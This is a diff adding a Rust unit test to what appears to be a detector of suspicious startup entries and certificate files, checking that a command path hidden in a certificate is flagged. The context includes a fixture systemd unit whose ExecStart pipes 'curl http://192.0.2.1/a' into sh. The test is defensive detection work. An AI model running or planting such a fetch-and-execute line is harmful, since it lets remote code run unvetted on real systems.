@@ -360,6 +360,19 @@ mod tests {
     }
 
     #[test]
+    fn base64_of_a_certificate_is_no_path_and_a_command_beside_it_is_told() {
+        let body = "/tGCpPYReyL2b2jxLRs/dFSKu7NouCoSyExihjzpA2X7jYIGGmMuFR5ar33Vkc46";
+        let pem = |with: &str| {
+            format!("-----BEGIN CERTIFICATE-----\n{body}\n{with}-----END CERTIFICATE-----\n")
+        };
+        let path = "/usr/local/share/ca-certificates/c.crt";
+        let of = |text: String| look(Pretend::new().file(path, text));
+        assert_eq!(of(pem("")), [format!("certificate-authority|{path}||{path}|unknown|")]);
+        let told = of(pem("/tmp/.x/run it\n"));
+        assert!(told.iter().any(|row| row.contains("|3|/tmp/.x/run|")), "{told:?}");
+    }
+
+    #[test]
     fn a_shipped_file_tells_only_what_it_starts_and_a_changed_one_why() {
         let unit = "[Service]\nExecStart=/bin/sh -c 'curl http://192.0.2.1/a | sh'\n";
         let machine = |sum: &str| {
